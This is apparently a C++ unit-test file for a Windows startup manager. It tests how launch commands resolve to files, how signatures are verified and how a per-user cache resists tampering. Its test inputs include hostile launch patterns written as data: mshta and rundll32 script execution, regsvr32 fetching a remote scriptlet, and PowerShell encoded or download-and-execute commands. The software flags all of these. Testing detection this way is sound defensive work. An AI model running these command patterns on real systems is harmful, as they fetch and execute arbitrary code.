// What an entry's file is, on the memory platform: which file a command, a
// host, a shortcut or a record starts; the state each kind of signature
// gives; the per-user cache.
#include <gtest/gtest.h>

#include <algorithm>
#include <thread>
#include <tuple>

#include "StoreTestScene.h"
#include "identity/EntryFiles.h"
#include "identity/Identifier.h"
#include "identity/IdentityHelper.h"
#include "identity/IdentityService.h"
#include "platform/Text.h"

namespace vantorell::testing {
namespace {

using identity::FileJob;
using identity::SignatureState;
using platform::SignatureFacts;

constexpr const char* kCache = "C:\\Users\\user\\AppData\\Local\\Vantorell\\identity-cache.txt";

class Identity : public StoreScene {
protected:
    Identity() {
        p.SetEnvironment("SystemRoot", "C:\\Windows");
        p.SetEnvironment("PATH", "C:\\Tools;%SystemRoot%\\Extra");
        p.SetEnvironment("ProgramFiles", "C:\\Program Files");
        for (const char* f :
             {"C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\wscript.exe",
              "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\mshta.exe",
              "C:\\Windows\\System32\\regsvr32.exe", "C:\\Windows\\System32\\shell32.dll",
              "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Program Files\\A B\\app.exe",
              "C:\\Program Files\\A B\\lib.dll", "C:\\Tools\\tool.exe", "C:\\Windows\\Extra\\extra.exe",
              "C:\\Apps\\found.exe", "C:\\Scripts\\run.vbs", "C:\\Scripts\\s.ps1", "C:\\Scripts\\page.hta"})
            p.PutFile(f, "MZ");
        p.PutString(platform::Hive::LocalMachine,
                    "Software\\Microsoft\\Windows\\CurrentVersion\\App Paths\\viaappkey.exe", "",
                    "\"C:\\Apps\\found.exe\"");
    }
};

// The launcher's rule for the program, then the file a host runs; a host
// that runs code given on its command line or fetched from a URL is itself
// what is shown, marked as running code from its command line.
TEST_F(Identity, FileOfACommand) {
    struct Case {
        std::string command, file;
        bool inlineCode = false;
    };
    const std::vector<Case> cases = {
        {"\"C:\\Program Files\\A B\\app.exe\" /tray", "C:\\Program Files\\A B\\app.exe"},
        {"C:\\Program Files\\A B\\app.exe /tray now", "C:\\Program Files\\A B\\app.exe"},
        {"   C:\\Tools\\tool.exe", "C:\\Tools\\tool.exe"},
        {"%ProgramFiles%\\A B\\app.exe -x", "C:\\Program Files\\A B\\app.exe"},
        {"%NotSet%\\x.exe", "%NotSet%\\x.exe"},
        {"tool -q", "C:\\Tools\\tool.exe"},                   // PATH
        {"extra.exe", "C:\\Windows\\Extra\\extra.exe"},       // PATH with a reference in it
        {"viaappkey.exe /s", "C:\\Apps\\found.exe"},          // App Paths
        {"C:\\Gone Away\\x.exe /q", "C:\\Gone Away\\x.exe"},  // missing: the part up to the file name
        {"\"C:\\Gone Away\\..\\Tools\\tool.exe\" -x", "C:\\Gone Away\\..\\Tools\\tool.exe"},  // the system folds ".."
        {"rundll32.exe \"C:\\Program Files\\A B\\lib.dll\",Start 1", "C:\\Program Files\\A B\\lib.dll"},
        {"rundll32 shell32.dll,Control_RunDLL", "C:\\Windows\\System32\\shell32.dll"},
        {"wscript.exe //B //nologo C:\\Scripts\\run.vbs arg", "C:\\Scripts\\run.vbs"},
        {"mshta.exe C:\\Scripts\\page.hta", "C:\\Scripts\\page.hta"},
        {"mshta.exe vbscript:Execute(\"x\")", "C:\\Windows\\System32\\mshta.exe", true},
        {"mshta \"javascript:close()\"", "C:\\Windows\\System32\\mshta.exe", true},
        {"mshta.exe HTTPS://example.test/a.hta", "C:\\Windows\\System32\\mshta.exe", true},
        {"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "C:\\Windows\\System32\\rundll32.exe",
         true},
        {"regsvr32 /s /n /u /i:http://example.test/x.sct scrobj.dll", "C:\\Windows\\System32\\regsvr32.exe", true},
        {"wscript.exe //E:jscript //B", "C:\\Windows\\System32\\wscript.exe", true},
        {"wscript.exe //E:vbscript C:\\Scripts\\run.vbs", "C:\\Scripts\\run.vbs"},  // a file: that is what runs
        {"regsvr32 /s /n \"C:\\Program Files\\A B\\lib.dll\"", "C:\\Program Files\\A B\\lib.dll"},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -File C:\\Scripts\\s.ps1",
         "C:\\Scripts\\s.ps1"},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -EncodedCommand SQBFAFgA",
         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", true},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -enc SQBFAFgA",
         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", true},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c \"iex(iwr x)\"",
         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", true},
        {"cmd /c \"\"C:\\Program Files\\A B\\app.exe\" /x\"", "C:\\Program Files\\A B\\app.exe"},
        {"cmd.exe /C start tool.exe", "C:\\Windows\\System32\\cmd.exe", true},  // "start" is cmd's own
        {"cmd /k C:\\Tools\\tool.exe & evil", "C:\\Windows\\System32\\cmd.exe", true},
        {"cmd /c mshta vbscript:Execute(\"x\")", "C:\\Windows\\System32\\mshta.exe", true},
        {"", ""},
    };
    // Alone, and all in one pass that remembers the folders found missing.
    identity::MissingFolders folders;
    for (auto* pass : {static_cast<identity::MissingFolders*>(nullptr), &folders})
        for (const auto& c : cases) {
            const auto resolved = identity::ResolveFile(p, FileJob{c.command, {}, {}, false}, pass);
            EXPECT_EQ(resolved.path, c.file) << c.command;
            EXPECT_EQ(resolved.inlineCode, c.inlineCode) << c.command;
        }
    // The files of a folder known to be gone cost no look; a folder not seen
    // before, two (its first file, then the folder).
    const auto lookups = p.FileLookups();
    for (const char* gone : {"C:\\Gone Away\\a.exe", "C:\\Gone Away\\b.exe /q", "%ProgramFiles%\\Gone\\c.exe"})
        EXPECT_FALSE(identity::ResolveFile(p, FileJob{gone, {}, {}, false}, &folders).facts->exists) << gone;
    EXPECT_EQ(p.FileLookups() - lookups, 2u);  // "C:\\Program Files\\Gone\\c.exe", then its folder
    // A device prefix is no folder: one missing file there says nothing of the next.
    identity::ResolveFile(p, FileJob{"\"\\\\?\\C:\\nowhere.exe\"", {}, {}, false}, &folders);
    const auto before = p.FileLookups();
    identity::ResolveFile(p, FileJob{"\"\\\\?\\C:\\Tools\\tool.exe\"", {}, {}, false}, &folders);
    EXPECT_EQ(p.FileLookups() - before, 1u);
    const auto hosted = identity::ResolveFile(p, FileJob{"rundll32 shell32.dll,X", {}, {}, false});
    EXPECT_EQ(hosted.host, "C:\\Windows\\System32\\rundll32.exe");
}

// Shortcuts name their target (a shell item by its parsing path; a host's
// file from the arguments); records are resolved from their fields.
TEST_F(Identity, FileOfAShortcutAndOfARecord) {
    NameStartupFolders();
    p.PutShortcut(std::string(kUserStartup) + "\\Tool.lnk", {"C:\\Tools\\tool.exe", "/min"});
    p.PutShortcut(std::string(kUserStartup) + "\\Script.lnk",
                  {"C:\\Windows\\System32\\wscript.exe", "C:\\Scripts\\run.vbs"});
    platform::ShortcutData item;
    item.itemPath = "shell:AppsFolder\\Vendor.App_1!App";
    p.PutShortcut(std::string(kUserStartup) + "\\Item.lnk", item);
    PutList(
        "Rec;crun;\"C:\\Program Files\\A B\\app.exe\" -q;;0;0\r\n"
        "Link.lnk;SUF;C:\\Windows\\System32\\wscript.exe;//B C:\\Scripts\\run.vbs;0;0\r\n");
    store.ScanEntries();
    const auto jobs = identity::EntryJobs(store);
    std::map<std::string, std::string> files;
    for (std::size_t i = 0; i < jobs.size(); ++i)
        files[store.Table().entries[i].name] = identity::ResolveFile(p, jobs[i]).path;
    EXPECT_EQ(files["Tool.lnk"], "C:\\Tools\\tool.exe");
    EXPECT_EQ(files["Script.lnk"], "C:\\Scripts\\run.vbs");
    EXPECT_EQ(files["Item.lnk"], "shell:AppsFolder\\Vendor.App_1!App");
    // A packaged app is live, not a missing file to delete: neither grey nor "File not found".
    identity::IdentityCache none(p, "");
    identity::Identifier identifier(p, none);
    for (std::size_t i = 0; i < jobs.size(); ++i) {
        if (store.Table().entries[i].name != "Item.lnk") continue;
        const auto id = identifier.Identify(jobs[i]);
        EXPECT_FALSE(identity::Dead(id));
        EXPECT_EQ(identity::PublisherText(id), "(packaged app)");
    }
    EXPECT_EQ(files["Rec"], "C:\\Program Files\\A B\\app.exe");
    EXPECT_EQ(files["Link.lnk"], "C:\\Scripts\\run.vbs");
}

// Each state, from the trust check's result and the chain as looked at here.
TEST_F(Identity, EveryState) {
    identity::IdentityCache cache(p, "");
    identity::Identifier identifier(p, cache);
    auto facts = [](std::uint32_t code, std::string signer = "Signer") {
        SignatureFacts f;
        f.code = code;
        f.signer = std::move(signer);
        return f;
    };
    auto put = [&](std::string name, SignatureFacts f) {
        const std::string path = "C:\\S\\" + name + ".exe";
        p.PutFile(path, name);
        p.SetSignature(path, std::move(f));
        return path;
    };
    SignatureFacts partial = facts(0), rootless = facts(0), server = facts(0), banned = facts(0);
    partial.partialChain = true;
    rootless.untrustedRoot = true;
    server.notForCodeSigning = true;
    banned.disallowed = true;
    SignatureFacts locked;
    locked.opened = false;
    p.PutFile("C:\\S\\plain.exe", "plain");
    p.SetVersionFacts("C:\\S\\plain.exe", {"Plain Corp", "Plain tool", "1.2.3"});
    const std::vector<std::tuple<std::string, SignatureState, std::string>> cases = {
        {put("good", facts(0)), SignatureState::Verified, "Signer"},
        {put("partial", partial), SignatureState::Untrusted, "(not verified) "},
        {put("rootless", rootless), SignatureState::Untrusted, "(not verified) "},
        {put("server", server), SignatureState::Untrusted, "(not verified) "},
        {put("chaining", facts(0x800B010A)), SignatureState::Untrusted, "(not verified) "},
        {put("tampered", facts(0x80096010)), SignatureState::Invalid, "invalid"},
        {put("banned", banned), SignatureState::Distrusted, "distrusted"},
        {put("explicit", facts(0x800B0111)), SignatureState::Distrusted, "distrusted"},
        {put("locked", locked), SignatureState::Unknown, "unknown"},
        {"C:\\S\\plain.exe", SignatureState::Unsigned, "(not verified) Plain Corp"},
        {"C:\\S\\gone.exe", SignatureState::Missing, "File not found"},
        // A signed host is verified, but what it runs comes from its command line.
        {put("powershell", facts(0)) + " -EncodedCommand SQBFAFgA", SignatureState::Verified,
         "runs code from its command line"},
    };
    for (const auto& [path, state, publisher] : cases) {
        const auto id = identifier.Identify(FileJob{path, {}, {}, false});
        EXPECT_EQ(id.state, state) << path;
        EXPECT_EQ(identity::PublisherText(id), publisher) << path;
    }
    const auto plain = identifier.Identify(FileJob{"C:\\S\\plain.exe", {}, {}, false});
    EXPECT_EQ(plain.description, "Plain tool");
    EXPECT_EQ(plain.fileVersion, "1.2.3");
    EXPECT_EQ(identifier.Identify(FileJob{"C:\\S\\tampered.exe", {}, {}, false}).signer, "Signer");
    EXPECT_TRUE(identity::Alarming(identifier.Identify(FileJob{"C:\\S\\banned.exe", {}, {}, false})));
    const auto tip =
        identity::IdentityTip(identifier.Identify(FileJob{"C:\\S\\powershell.exe -c calc", {}, {}, false}));
    EXPECT_NE(tip.find("File: C:\\S\\powershell.exe\nPublisher: runs code from its command line\n"), std::string::npos)
        << tip;
}

// Windows' own files: no embedded signature, listed in a catalog by SHA-256,
// or on older systems by SHA-1 only.
TEST_F(Identity, CatalogSignatures) {
    identity::IdentityCache cache(p, "");
    identity::Identifier identifier(p, cache);
    SignatureFacts windows;
    windows.signer = "Microsoft Windows";
    p.PutFile("C:\\Windows\\System32\\a.exe", "a");
    p.PutFile("C:\\Windows\\System32\\b.exe", "b");
    p.AddToCatalog("C:\\Windows\\System32\\a.exe", platform::CatalogHash::Sha256, windows);
    p.AddToCatalog("C:\\Windows\\System32\\b.exe", platform::CatalogHash::Sha1, windows);
    for (const char* f : {"C:\\Windows\\System32\\a.exe", "C:\\Windows\\System32\\b.exe"}) {
        const auto id = identifier.Identify(FileJob{f, {}, {}, false});
        EXPECT_EQ(id.state, SignatureState::Verified) << f;
        EXPECT_EQ(id.signer, "Microsoft Windows") << f;
    }
    // Changed after it was listed: no catalog holds its hash any more.
    p.PutFile("C:\\Windows\\System32\\a.exe", "a2");
    EXPECT_EQ(identifier.Identify(FileJob{"C:\\Windows\\System32\\a.exe", {}, {}, false}).state,
              SignatureState::Unsigned);
}

// A file on a share is never looked at, by its form or by a mapped drive.
TEST_F(Identity, NetworkFilesAreNotOpened) {
    identity::IdentityCache cache(p, "");
    identity::Identifier identifier(p, cache);
    p.AddNetworkPrefix("Z:");
    p.PutFile("Z:\\x.exe", "z");
    p.SetEnvironment("PATH", "Z:\\Tools;C:\\Tools");
    p.PutFile("Z:\\Tools\\mapped.exe", "z");
    for (const char* command :
         {"\\\\server\\share\\x.exe", "\"Z:\\x.exe\" /q", "\\\\?\\UNC\\server\\s\\y.exe", "\\??\\UNC\\server\\s\\y.exe",
          "\\\\?\\GLOBALROOT\\Device\\Mup\\server\\s\\y.exe", "\\\\.\\GLOBALROOT\\Device\\Mup\\server\\s\\y.exe",
          "\\??\\GLOBALROOT\\Device\\LanmanRedirector\\server\\s\\y.exe",
          "\\\\?\\GLOBALROOT\\Device\\HarddiskVolume1\\y.exe", "\\\\.\\pipe\\y", "mapped -q"}) {
        const auto id = identifier.Identify(FileJob{command, {}, {}, false});
        EXPECT_EQ(id.state, SignatureState::Unknown) << command;
        EXPECT_EQ(id.reason, identity::kReasonNetwork) << command;
    }
    EXPECT_EQ(p.SignatureChecks(), 0u);
}

// The cache answers for a file that did not change, checks one that did,
// and a damaged cache file is rebuilt rather than believed.
TEST_F(Identity, CacheHitChangeAndCorruption) {
    p.PutFile("C:\\S\\app.exe", "v1");
    SignatureFacts good;
    good.signer = "Vendor";
    p.SetSignature("C:\\S\\app.exe", good);
    const FileJob job{"C:\\S\\app.exe", {}, {}, false};
    auto identify = [&] {
        identity::IdentityCache cache(p, kCache);
        cache.Load();
        identity::Identifier identifier(p, cache);
        auto id = identifier.Identify(job);
        cache.Save();
        return std::make_pair(id, cache.Corrupt());
    };
    EXPECT_EQ(identify().first.state, SignatureState::Verified);
    EXPECT_EQ(p.SignatureChecks(), 1u);
    const auto lookups = p.FileLookups();
    EXPECT_EQ(identify().first.signer, "Vendor");  // from the cache
    EXPECT_EQ(p.SignatureChecks(), 1u);
    EXPECT_EQ(p.FileLookups() - lookups, 1u);  // the look that resolved the command gave the cache's key too

    // Rewritten behind the cache's back: checked again.
    p.PutFile("C:\\S\\app.exe", "v2 tampered");
    SignatureFacts bad;
    bad.code = 0x80096010;
    p.SetSignature("C:\\S\\app.exe", bad);
    EXPECT_EQ(identify().first.state, SignatureState::Invalid);
    EXPECT_EQ(p.SignatureChecks(), 2u);

    // A cache file that says "verified" for it but does not add up is not believed.
    std::string bytes = *p.GetFile(kCache);
    const auto at = bytes.find("invalid");
    ASSERT_NE(at, std::string::npos);
    bytes.replace(at, 7, "verified");
    p.PutFile(kCache, bytes);
    const auto [id, corrupt] = identify();
    EXPECT_TRUE(corrupt);
    EXPECT_EQ(id.state, SignatureState::Invalid);
    EXPECT_EQ(p.SignatureChecks(), 3u);
    identity::IdentityCache reread(p, kCache);
    reread.Load();
    EXPECT_FALSE(reread.Corrupt());  // written sound again
    EXPECT_EQ(reread.Size(), 1u);

    // Bounded: the least recently used go first.
    identity::IdentityCache small(p, "", 2);
    identity::Identity v;
    v.state = SignatureState::Unsigned;
    small.Put("C:\\1", "s", v);
    small.Put("C:\\2", "s", v);
    ASSERT_NE(small.Find("C:\\1", "s"), nullptr);
    small.Put("C:\\3", "s", v);
    EXPECT_EQ(small.Size(), 2u);
    EXPECT_EQ(small.Find("C:\\2", "s"), nullptr);
    EXPECT_NE(small.Find("c:\\1", "s"), nullptr);
}

// What pins a signer (issuer, thumbprints) and the inline mark travel through
// the cache and the helper's reply, with the stamp of the bytes examined.
TEST_F(Identity, PinsAndTheInlineMarkTravel) {
    identity::Identity id;
    id.file = "C:\\Windows\\System32\\mshta.exe";
    id.fileExists = true;
    id.state = SignatureState::Verified;
    id.signer = "Contoso Ltd";
    id.issuer = "Contoso Code CA";
    id.thumbprintSha1 = std::string(40, 'a');
    id.thumbprintSha256 = std::string(64, 'b');
    id.inlineCode = true;
    identity::Identity read;
    std::string stamp;
    std::string line = identity::IdentifyReplyLine(id, "sha256:1234");
    line.pop_back();
    ASSERT_TRUE(identity::DecodeIdentifyReplyLine(line, read, stamp));
    EXPECT_EQ(read, id);
    EXPECT_EQ(stamp, "sha256:1234");

    {
        identity::IdentityCache cache(p, kCache);
        cache.Load();
        cache.Put(id.file, "sha256:1234", id);
        ASSERT_TRUE(cache.Save());
    }
    identity::IdentityCache cache(p, kCache);
    cache.Load();
    const identity::Identity* cached = cache.Find(id.file, "sha256:1234");
    ASSERT_NE(cached, nullptr);
    EXPECT_EQ(cached->issuer, id.issuer);
    EXPECT_EQ(cached->thumbprintSha1, id.thumbprintSha1);
    EXPECT_EQ(cached->thumbprintSha256, id.thumbprintSha256);
    EXPECT_FALSE(cached->inlineCode);  // a mark of the command, not of the file
}

// The background service: results are collected on the window's thread.
TEST_F(Identity, ServiceCollectsResults) {
    p.PutFile("C:\\S\\app.exe", "x");
    identity::IdentityService service(p, kCache);
    const FileJob job{"C:\\S\\app.exe /q", {}, {}, false};
    EXPECT_EQ(service.Find(job), nullptr);
    service.Request({job, job});
    EXPECT_TRUE(service.Collect());
    ASSERT_NE(service.Find(job), nullptr);
    EXPECT_EQ(service.Find(job)->state, SignatureState::Unsigned);
    EXPECT_FALSE(service.Busy());
    service.Request({job});
    EXPECT_FALSE(service.Collect());  // the same answer again: nothing to redraw
    EXPECT_TRUE(p.GetFile(kCache).has_value());
    // A command rewritten again and again: only the entries of the last scan stay known.
    for (int n = 0; n < 100; ++n) {
        service.Request({FileJob{"C:\\S\\app.exe /" + std::to_string(n), {}, {}, false}});
        service.Collect();
    }
    EXPECT_EQ(service.Find(job), nullptr);
    ASSERT_NE(service.Find(FileJob{"C:\\S\\app.exe /99", {}, {}, false}), nullptr);
    EXPECT_EQ(service.Find(FileJob{"C:\\S\\app.exe /98", {}, {}, false}), nullptr);
}

// Where a helper can run, the window's service asks it and never identifies a
// file itself: the answers are those of identification in this process, read
// as they come, and a helper that fails or is cut off leaves its jobs unknown.
TEST_F(Identity, ServiceAsksAHelper) {
    // The window's thread answers from the cache by a stamp it can have
    // without reading the file: the change journal's.
    p.SetChangeJournal(true);
    p.PutFile("C:\\S\\app.exe", "x");
    SignatureFacts good;
    good.code = 0;
    good.signer = "Good Signer";
    p.SetSignature("C:\\S\\app.exe", good);
    p.SetVersionFacts("C:\\S\\app.exe", {"Good Co", "An app\twith a tab", "1.0"});
    std::string reply;  // what the next helper writes; empty: it serves the request here
    p.SetHelperScript([&](std::string_view argument, std::string_view input) -> std::optional<std::string> {
        EXPECT_EQ(argument, identity::kIdentifySwitch);
        if (reply == "none") return std::nullopt;
        if (!reply.empty()) return reply;
        std::string out;
        EXPECT_TRUE(identity::ServeIdentification(p, input, [&](std::string_view line) { out += line; }));
        return out;
    });
    const std::vector<FileJob> jobs = {
        {"\"C:\\S\\app.exe\" /q", {}, {}, false}, {"C:\\Gone\\x.exe\t\\\n", {}, {}, false}, {"tool -q", {}, {}, false}};
    identity::IdentityService service(p, kCache);
    // Told at once, before any helper (the monitor's report names it): a file
    // that is not there; a file that needs a check is not known yet.
    ASSERT_TRUE(service.KnownNow(jobs[1]).has_value());
    EXPECT_EQ(service.KnownNow(jobs[1])->state, SignatureState::Missing);
    EXPECT_FALSE(service.KnownNow(jobs[0]).has_value());
    service.Request(jobs);
    EXPECT_TRUE(service.Busy());
    EXPECT_EQ(p.HelperRuns(), 0u);  // started by the window's timer, not by the scan
    EXPECT_TRUE(service.Collect());
    EXPECT_FALSE(service.Busy());
    EXPECT_EQ(p.HelperRuns(), 1u);
    EXPECT_TRUE(p.GetFile(kCache).has_value());  // what the helper found, for the next start
    identity::IdentityCache none(p, "");
    identity::Identifier here(p, none);
    for (const FileJob& job : jobs) {
        ASSERT_NE(service.Find(job), nullptr) << job.command;
        EXPECT_EQ(*service.Find(job), here.Identify(job)) << job.command;
    }
    EXPECT_EQ(service.Find(jobs[0])->state, SignatureState::Verified);
    EXPECT_EQ(service.Find(jobs[0])->description, "An app\twith a tab");
    // The next start knows it from the cache at once.
    identity::IdentityService next(p, kCache);
    ASSERT_TRUE(next.KnownNow(jobs[0]).has_value());
    EXPECT_EQ(next.KnownNow(jobs[0])->signer, "Good Signer");

    // Asked again after a scan: nothing new, no helper.
    service.Request(jobs);
    EXPECT_FALSE(service.Collect());
    EXPECT_EQ(p.HelperRuns(), 1u);
    // A new file soon after: it waits for the gap between helpers, then goes alone.
    std::vector<FileJob> more = jobs;
    more.push_back({"viaappkey.exe /new", {}, {}, false});
    service.Request(more);
    service.Collect();
    EXPECT_EQ(p.HelperRuns(), 1u);
    EXPECT_TRUE(service.Busy());
    p.Advance(identity::IdentityService::kHelperGapMs);
    EXPECT_TRUE(service.Collect());
    EXPECT_EQ(p.HelperRuns(), 2u);
    ASSERT_NE(service.Find(more[3]), nullptr);
    EXPECT_EQ(service.Find(more[3])->file, "C:\\Apps\\found.exe");

    // A minute on, every job is asked again: what the helpers found is known
    // here by the files' stamps, so no helper starts.
    p.Advance(identity::IdentityService::kRecheckMs);
    service.Request(more);
    EXPECT_FALSE(service.Collect());
    EXPECT_EQ(p.HelperRuns(), 2u);

    // Two files changed; this helper ends after its first answer.
    p.PutFile("C:\\S\\app.exe", "y");
    p.PutFile("C:\\Apps\\found.exe", "z");
    p.Advance(identity::IdentityService::kRecheckMs);
    std::string cut;
    identity::ServeIdentification(p, identity::EncodeIdentifyRequest({more[0]}),
                                  [&](std::string_view line) { cut += line; });
    reply = cut + "C:\\Apps\\found.exe\t";  // the second line cut short
    service.Request(more);
    service.Collect();
    EXPECT_EQ(p.HelperRuns(), 3u);
    EXPECT_EQ(service.Find(more[0])->state, SignatureState::Verified);
    EXPECT_EQ(service.Find(more[1])->state, SignatureState::Missing);
    EXPECT_EQ(service.Find(more[3])->state, SignatureState::Unknown);
    EXPECT_EQ(service.Find(more[3])->reason, identity::kReasonCheckFailed);
    // Neither a helper that cannot start nor one that writes something else
    // keeps the service busy.
    for (const char* failing : {"none", "Something else\n"}) {
        reply = failing;
        p.Advance(identity::IdentityService::kRecheckMs);
        service.Request(more);
        service.Collect();
        EXPECT_FALSE(service.Busy());
        EXPECT_EQ(service.Find(more[3])->reason, identity::kReasonCheckFailed);
    }
    // A helper that never ends is ended once overdue; its files stay unknown.
    reply = "Vantorell identified 2\n";
    p.SetHelperHangs(true);
    p.Advance(identity::IdentityService::kRecheckMs);
    service.Request(more);
    service.Collect();
    EXPECT_TRUE(service.Busy());
    p.Advance(identity::IdentityService::kHelperBaseMs + identity::IdentityService::kHelperPerJobMs + 1);
    service.Collect();
    EXPECT_FALSE(service.Busy());
    EXPECT_EQ(service.Find(more[3])->reason, identity::kReasonCheckFailed);
    p.SetHelperHangs(false);

    // Many files are shared out among helpers, each answered once.
    identity::IdentityService many(p, "");
    std::vector<FileJob> files;
    for (int i = 0; i < 20; ++i) {
        files.push_back({"C:\\Many\\f" + std::to_string(i) + ".exe", {}, {}, false});
        p.PutFile(files.back().command, "x");
    }
    reply.clear();
    const std::size_t before = p.HelperRuns();
    many.Request(files);
    many.Collect();
    EXPECT_EQ(p.HelperRuns() - before,
              std::clamp<std::size_t>(std::thread::hardware_concurrency(), 1, identity::IdentityService::kMaxHelpers));
    for (const FileJob& job : files) {
        ASSERT_NE(many.Find(job), nullptr);
        EXPECT_EQ(many.Find(job)->state, SignatureState::Unsigned);
    }
    EXPECT_FALSE(identity::DecodeIdentifyRequest("Vantorell identify 1\nC:\\x\t\t\t2\t\n").has_value());
}

// A file rewritten in place with other bytes of its size and its times put
// back is checked again: the cache holds it by its ID and change-journal
// number, or by its content's hash, which no writer can put back. In the
// cache's file (the next start), and in the window's memory (the same session).
TEST_F(Identity, SameSizeSwapWithTheTimesPutBackIsCheckedAgain) {
    for (const bool journal : {true, false}) {
        SCOPED_TRACE(journal ? "change journal" : "content hash");
        p.SetChangeJournal(journal);
        const std::string file = journal ? "C:\\S\\journal.exe" : "C:\\S\\hashed.exe";
        p.RemoveFile(kCache);
        p.PutFile(file, "signed bytes");
        SignatureFacts good;
        good.signer = "Vendor";
        p.SetSignature(file, good);
        auto identify = [&](std::string arguments) {
            identity::IdentityCache cache(p, kCache);
            cache.Load();
            identity::Identifier identifier(p, cache);
            std::string stamp;
            auto id = identifier.Identify(FileJob{"\"" + file + "\" " + arguments, {}, {}, false}, false, &stamp);
            cache.Save();
            EXPECT_EQ(stamp.rfind(journal ? "usn:" : "sha256:", 0), 0u) << stamp;
            return id;
        };
        ASSERT_EQ(identify("/a").state, SignatureState::Verified);
        // The window's service, with a helper, knows it too.
        p.SetHelperScript([&](std::string_view, std::string_view input) -> std::optional<std::string> {
            std::string out;
            identity::ServeIdentification(p, input, [&](std::string_view line) { out += line; });
            return out;
        });
        identity::IdentityService service(p, "");
        service.Request({FileJob{file + " /window", {}, {}, false}});
        service.Collect();
        ASSERT_EQ(service.Find(FileJob{file + " /window", {}, {}, false})->state, SignatureState::Verified);

        const platform::FileFacts before = p.StatFile(file);
        ASSERT_TRUE(p.WriteFileAtomic(file, "evil! bytes!").ok);
        const platform::FileFacts after = p.StatFile(file);
        ASSERT_EQ(after.size, before.size);
        ASSERT_EQ(after.lastWrite, before.lastWrite);  // the times put back
        SignatureFacts bad;
        bad.code = 0x80096010;  // TRUST_E_BAD_DIGEST: the check of these bytes
        p.SetSignature(file, bad);
        const std::size_t checks = p.SignatureChecks();
        EXPECT_EQ(identify("/a").state, SignatureState::Invalid);
        EXPECT_EQ(p.SignatureChecks(), checks + 1);
        // A new entry for the file in the same session: looked at again.
        p.Advance(identity::IdentityService::kHelperGapMs);
        const FileJob later{file + " /later", {}, {}, false};
        service.Request({FileJob{file + " /window", {}, {}, false}, later});
        service.Collect();
        ASSERT_NE(service.Find(later), nullptr);
        EXPECT_EQ(service.Find(later)->state, SignatureState::Invalid);
        p.SetHelperScript(nullptr);
    }
}

// A certificate put into a trust store after a file was checked drops every
// verdict: the next start and the window's next request check again.
TEST_F(Identity, ASignerDistrustedAfterAFirstCheckIsNoLongerVerified) {
    const std::vector<std::pair<platform::Hive, std::string>> stores = {
        {platform::Hive::LocalMachine, "Software\\Microsoft\\SystemCertificates\\Disallowed\\Certificates"},
        {platform::Hive::CurrentUser, "Software\\Microsoft\\SystemCertificates\\Disallowed\\Certificates"},
        {platform::Hive::LocalMachine, "Software\\Policies\\Microsoft\\SystemCertificates\\Disallowed\\Certificates"},
        {platform::Hive::CurrentUser, "Software\\Policies\\Microsoft\\SystemCertificates\\Disallowed\\Certificates"},
        {platform::Hive::LocalMachine, "Software\\Microsoft\\EnterpriseCertificates\\Disallowed\\Certificates"},
    };
    int n = 0;
    for (const auto& [hive, store] : stores) {
        SCOPED_TRACE(store);
        const std::string file = "C:\\S\\signed" + std::to_string(++n) + ".exe";
        p.PutFile(file, "bytes");
        SignatureFacts good;
        good.signer = "Vendor";
        p.SetSignature(file, good);
        auto identify = [&] {
            identity::IdentityCache cache(p, kCache);
            cache.Load();
            identity::Identifier identifier(p, cache);
            auto id = identifier.Identify(FileJob{file, {}, {}, false});
            cache.Save();
            return id.state;
        };
        ASSERT_EQ(identify(), SignatureState::Verified);
        identity::IdentityService service(p, kCache);
        const FileJob job{file + " /window", {}, {}, false};
        service.Request({job});
        service.Collect();
        ASSERT_EQ(service.Find(job)->state, SignatureState::Verified);

        // The signer's certificate distrusted: the system's check says so now.
        const std::string thumbprint = "0123456789ABCDEF0123456789ABCDEF0123456" + std::to_string(n);
        p.PutValue(hive, store + "\\" + thumbprint, "Blob", platform::RegValue{platform::RegType::Binary, "cert"});
        SignatureFacts banned = good;
        banned.disallowed = true;
        p.SetSignature(file, banned);
        EXPECT_EQ(identify(), SignatureState::Distrusted);
        const FileJob later{file + " /later", {}, {}, false};
        service.Request({job, later});
        service.Collect();
        EXPECT_EQ(service.Find(later)->state, SignatureState::Distrusted);
        EXPECT_EQ(service.Find(job)->state, SignatureState::Distrusted);
        p.RemoveKey(hive, store + "\\" + thumbprint);
    }
}

// A process with administrator rights reads and writes no cache that the
// user's own programs can write: its own in %ProgramData%\Vantorell where
// only administrators can write, or none.
TEST_F(Identity, AnElevatedProcessKeepsNoCacheTheUserCanWrite) {
    constexpr const char* kMachineCache = "C:\\ProgramData\\Vantorell\\identity-cache.txt";
    p.SetStandardUser(true);
    EXPECT_EQ(identity::IdentityCache::UserCachePath(p), kCache);
    p.SetStandardUser(false);
    EXPECT_EQ(identity::IdentityCache::UserCachePath(p), "");
    p.SetAdministratorsOnly("C:\\ProgramData\\Vantorell");
    EXPECT_EQ(identity::IdentityCache::UserCachePath(p), kMachineCache);

    // The user's cache says "verified" for a file the elevated check finds changed.
    p.PutFile("C:\\S\\app.exe", "bytes");
    SignatureFacts good;
    good.signer = "Vendor";
    p.SetSignature("C:\\S\\app.exe", good);
    p.SetStandardUser(true);
    {
        identity::IdentityService user(p, identity::IdentityCache::UserCachePath(p));
        user.Request({FileJob{"C:\\S\\app.exe", {}, {}, false}});
    }
    const auto userCache = p.GetFile(kCache);
    ASSERT_TRUE(userCache.has_value());
    SignatureFacts bad;
    bad.code = 0x80096010;
    p.SetSignature("C:\\S\\app.exe", bad);
    p.SetStandardUser(false);
    identity::IdentityService elevated(p, identity::IdentityCache::UserCachePath(p));
    const FileJob job{"C:\\S\\app.exe", {}, {}, false};
    elevated.Request({job});
    elevated.Collect();
    EXPECT_EQ(elevated.Find(job)->state, SignatureState::Invalid);
